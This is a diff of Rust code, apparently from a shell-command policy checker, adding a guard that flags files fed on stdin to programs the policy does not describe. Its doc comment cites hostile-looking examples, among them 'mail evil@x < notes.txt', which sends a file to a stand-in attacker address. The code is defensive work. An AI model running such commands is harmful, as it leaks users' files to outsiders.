@@ -897,6 +897,16 @@ fn check_segment(
                 .secrets
                 .read_on_stdin(&file.word, &file.real, &site),
         );
+        let reader = if multi_call { name } else { real_name };
+        if satisfied_by != Some(SatisfiedBy::SafeBin) && !known_reader(reader) {
+            guards.push(GuardHit {
+                id: STDIN_UNKNOWN_PROGRAM,
+                reason: format!(
+                    "{reader} reads {} on stdin, and no spec or safe-bin profile says what {reader} does with its input (it may send it, unpack it or run it as commands)",
+                    file.word
+                ),
+            });
+        }
     }
     SegmentCheck {
         satisfied_by,
@@ -904,6 +914,19 @@ fn check_segment(
         guards,
         miss,
     }
+}
+
+/// The guard id of a file fed on stdin (`< FILE`) to a program the policy
+/// has no description of.
+pub const STDIN_UNKNOWN_PROGRAM: &str = "stdin.unknown-program";
+
+/// Whether the policy knows what `program` does with what it reads on
+/// stdin: it has a spec, or a built-in safe-bin profile (a filter of
+/// stdin). Feeding a file to any other program is asked, more strictly
+/// than a pipe: `mail evil@x < notes.txt` sends it, `cpio -i < a.cpio`
+/// unpacks files from it, `sqlite3 db < x.sql` runs it as commands.
+fn known_reader(program: &str) -> bool {
+    crate::policy::specs::lookup(program).is_some() || safe_bins::builtin_profile(program).is_some()
 }
 
 /// The allowlist entry with an `argPattern` that allows a shell request as
